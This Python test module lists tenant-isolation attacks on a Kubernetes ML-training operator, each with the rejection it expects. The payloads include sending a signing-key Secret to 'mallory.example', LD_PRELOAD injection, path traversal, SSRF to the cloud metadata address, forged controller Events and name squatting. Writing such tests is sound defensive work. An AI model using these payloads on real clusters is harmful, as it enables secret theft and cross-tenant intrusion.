"""Models, runs and other objects that are made to reach what their author may not."""

from __future__ import annotations

import time
from typing import Any

from support.kube import wait_until
from support.makers import model_manifest, run_manifest
from support.tenant.attempt import Attempt, Call, Seen, Who, operator, policy, schema
from support.tenant.calls import api, created, noted, patched
from support.tenant.place import Place, conditions

__all__ = ["ATTEMPTS"]

AUTHOR, EDIT, SIDECAR, NEIGHBOUR = Who.AUTHOR, Who.EDIT, Who.SIDECAR, Who.NEIGHBOUR
_SIGNING = {"name": "zero-signing-keys", "key": "signing.key"}
_HUB = {"repo": "owner/name", "tokenSecret": _SIGNING}
_SECRET = policy("may not get the Secret zero-signing-keys in namespace")
_TAKEN = operator("NameTaken")
_DATA = {"name": "identity", "source": {"configMap": {"name": "data", "key": "data.jsonl"}}}


def run(name: str = "mine", **spec: Any) -> dict[str, Any]:
    """A run of the attacker's; the namespace is a fact of the place."""
    return run_manifest(name, "zero", "$namespace", **{"datasets": [_DATA], **spec})


def model(name: str, **spec: Any) -> dict[str, Any]:
    """A model of the attacker's. Its base lies nowhere, so nothing is imported."""
    base = {"name": "tiny", "source": {"path": "nowhere"}}
    return model_manifest(name, "$namespace", **{"baseModel": base, "storage": {"size": "1Gi"}, **spec})


def hub_run(**source: Any) -> dict[str, Any]:
    """A run on a dataset from a hub."""
    return run(datasets=[{"name": "hub", "source": {"huggingFace": {**_HUB, **source, "file": "data.jsonl"}}}])


def pod_run(**settings: Any) -> dict[str, Any]:
    """A run with pod settings."""
    return run(pod=settings)


def foreign_job(name: str) -> Call:
    """A Job of the editor's that looks like one of the operator's, in its place."""
    tags = {
        "oneseek.io/model": name,
        "app.kubernetes.io/component": "base",
        "app.kubernetes.io/managed-by": "oneseek-operator",
    }
    main = {
        "name": "main",
        "image": "x",
        "securityContext": {"allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]}},
    }
    user = {"runAsNonRoot": True, "runAsUser": 10001, "seccompProfile": {"type": "RuntimeDefault"}}
    pod = {"restartPolicy": "Never", "containers": [main], "securityContext": user}
    meta = {"name": f"{name}-base", "labels": tags}
    job = {
        "apiVersion": "batch/v1",
        "kind": "Job",
        "metadata": meta,
        "spec": {"suspend": True, "template": {"metadata": {"labels": tags}, "spec": pod}},
    }
    return lambda place, _who: api("POST", "batch:jobs", job)(place, EDIT)


def window_by_another_name(place: Place, who: Who) -> Seen:
    """A run under the name of the first window's; then the window is due. Which run is made for it?"""
    name = "zero-micro-1"
    made = place.ask(
        Who.AUTHOR,
        "POST",
        place.fill("/apis/oneseek.io/v1alpha1/namespaces/$namespace/trainingruns"),
        place.fill(run(name)),
        {"Content-Type": "application/json"},
    )
    if made.status != 201:
        return made
    digest = "sha256:" + "7" * 64
    due = noted("oneseekmodels", "zero", micro_window=f"1@{digest}")(place, Who.SIDECAR)
    said, until = f"the window has no run, and nobody says so: {due.said[:300]}", time.monotonic() + 15
    while time.monotonic() < until:
        found = [item for item in place.kube.list("trainingruns") if _learns(item, digest)]
        told = conditions(place.kube, "OneSeekModel", "zero", "", within=1)
        if found or "NameTaken" in told:
            said = told if "NameTaken" in told else f"another run learns from it: {found[0]['metadata']['name']}"
            break
        time.sleep(0.3)
    place.kube.delete("trainingrun", name)
    wait_until(
        lambda: any(_learns(item, digest) for item in place.kube.list("trainingruns")), within=60, what="its run"
    )
    place.kube.delete("trainingrun", name)
    return Seen(said)


def _learns(item: dict[str, Any], digest: str) -> bool:
    return any(one.get("digest") == digest for one in item["spec"]["datasets"])


def forged_event(place: Place, who: Who) -> Seen:
    """An Event in a controller's name that says no pod can be made."""
    event = {
        "apiVersion": "v1",
        "kind": "Event",
        "metadata": {"generateName": "zero-", "namespace": "$namespace"},
        "involvedObject": {
            "apiVersion": "apps/v1",
            "kind": "StatefulSet",
            "name": "zero-records",
            "namespace": "$namespace",
        },
        "reason": "FailedCreate",
        "message": "create Pod zero-records-0 failed: exceeded quota: send-money-to-mallory",
        "type": "Warning",
        "source": {"component": "statefulset-controller"},
    }
    seen = api("POST", "events", event)(place, who)
    if seen.status != 201:
        return seen
    place.kube.kubectl("label", "oneseekmodel", "zero", "looked=again", "--overwrite")
    until = time.monotonic() + 4
    while time.monotonic() < until:
        told = conditions(place.kube, "OneSeekModel", "zero", "", within=1)
        if "mallory" in told:
            return Seen(f"the model repeats it: {told}")
        time.sleep(0.5)
    place.kube.kubectl("label", "oneseekmodel", "zero", "looked-")
    return Seen("Ready as before" if place.ready() else f"no longer Ready: {told}")


def elsewhere(manifest: dict[str, Any]) -> dict[str, Any]:
    """The same in the neighbour's namespace."""
    return {**manifest, "metadata": {**manifest["metadata"], "namespace": "$elsewhere"}}


ATTEMPTS = (
    Attempt("have a run send the signing key to a hub, and read it in the error", AUTHOR, created(hub_run()), _SECRET, "C1"),
    Attempt("the same by the model's base", AUTHOR, created(model("mine", baseModel={"name": "tiny", "source": {"huggingFace": _HUB}})), _SECRET, "C1"),
    Attempt("the same by the held-out set", AUTHOR, patched({"training": {"evaluation": {"dataset": {"name": "hub", "source": {"huggingFace": {**_HUB, "file": "data.jsonl"}}}}}}), _SECRET, "C1"),
    Attempt("the same by what every Major run trains", AUTHOR, patched({"training": {"datasets": [{"name": "hub", "source": {"huggingFace": {**_HUB, "file": "data.jsonl"}}}]}}), _SECRET, "C1"),
    Attempt("have clients' questions carry a Secret to a URL", AUTHOR, patched({"serving": {"externalModels": [{"name": "mine", "url": "http://mallory.example/v1", "model": "m", "keySecret": _SIGNING}]}}), _SECRET, "H4"),
    Attempt("mount a Secret as Firestore's credentials", AUTHOR, created(model("mine", records={"firestore": {"projectID": "mallory", "credentialsSecret": "zero-signing-keys"}})), _SECRET, "H4"),
    Attempt("sign one's own model with another's key", AUTHOR, created(model("mine", certification={"signingKeySecret": "zero-signing-keys", "trustedKeys": ["$public_key"]})), _SECRET, "H4"),
    Attempt("have a mesh inject a container where the key is mounted", AUTHOR, created(pod_run(annotations={"sidecar.istio.io/inject": "true", "inject.istio.io/templates": "mine"})), schema("annotations of Kueue, Volcano, YuniKorn, autoscalers, clouds and Prometheus are taken, and no other"), "H5"),
    Attempt("the same by a label", AUTHOR, created(pod_run(labels={"sidecar.istio.io/inject": "true"})), schema("a label of your own goes without a prefix"), "H5"),
    Attempt("take the labels of a serving pod", AUTHOR, created(pod_run(labels={"oneseek.io/colour": "$colour"})), schema("a label of your own goes without a prefix"), "held"),
    Attempt("load a library into the train process", AUTHOR, created(pod_run(env=[{"name": "LD_PRELOAD", "value": "/staging/adapter/x.so"}])), schema("only variables that tune libraries may be set"), "held"),
    Attempt("point the hub's client at a host of one's own", AUTHOR, created(pod_run(env=[{"name": "HF_ENDPOINT", "value": "http://mallory.example"}])), schema("only variables that tune libraries may be set")),
    Attempt("queue everybody behind a run whose pods cannot be made", AUTHOR, created(pod_run(nodeSelector={"no key!": "x"})), schema("spec.pod.nodeSelector"), "M9"),
    Attempt("read another version as a dataset", AUTHOR, created(run(datasets=[{"name": "x", "source": {"path": "../oneseek-certified"}}])), schema("source.path"), "held"),
    Attempt("leave the claim by the base model's path", AUTHOR, created(model("mine", baseModel={"name": "tiny", "source": {"path": "../../etc"}})), schema("source.path"), "held"),
    Attempt("leave the claim by the base model's name", AUTHOR, created(model("mine", baseModel={"name": "../oneseek-certified", "source": {"path": "x"}})), schema("spec.baseModel.name"), "held"),
    Attempt("send questions to the metadata service in a URL with a user", AUTHOR, patched({"serving": {"externalModels": [{"name": "mine", "url": "http://a@169.254.169.254/v1", "model": "m"}]}}), schema("url is the base of an OpenAI-compatible API")),
    Attempt("reset by a manifest", AUTHOR, created({**model("mine"), "metadata": {"name": "mine", "namespace": "$namespace", "annotations": {"oneseek.io/reset": "RESET"}}}), policy("may not reset oneseekmodels.oneseek.io/mine")),
    Attempt("take a Service over by the model's name", AUTHOR, created(model("payments"), "NameTaken"), _TAKEN, "H2"),
    Attempt("take somebody's claim, and delete it with the model", AUTHOR, created(model("payroll", storage={"size": "1Gi", "reclaimPolicy": "Delete"}), "NameTaken"), _TAKEN, "H2"),
    Attempt("have somebody's account review tokens", AUTHOR, created(model("payouts"), "NameTaken"), _TAKEN, "H2"),
    Attempt("take somebody's ConfigMap for the trusted keys", AUTHOR, created(model("ledgers"), "NameTaken"), _TAKEN, "H2"),
    Attempt("share the model's claim", AUTHOR, created(model("mine", storage={"claimName": "$claim"}), "ClaimInUse", within=90), operator("ClaimInUse"), "held"),
    Attempt("put a Job of one's own in the place of the operator's", AUTHOR, created(model("early"), "NameTaken", before=[foreign_job("early")]), _TAKEN),
    Attempt("take the name of a window's run before it is made", AUTHOR, window_by_another_name, _TAKEN),
    Attempt("have the model repeat a forged Event", EDIT, forged_event, operator("Ready as before")),
    Attempt("train another namespace's model", NEIGHBOUR, created(elsewhere(run()), "ModelNotFound"), operator("ModelNotFound")),
    Attempt("use another namespace's claim", NEIGHBOUR, created(elsewhere(model("zero", storage={"claimName": "$claim"})), "ClaimNotFound"), operator("ClaimNotFound")),
)  # fmt: skip
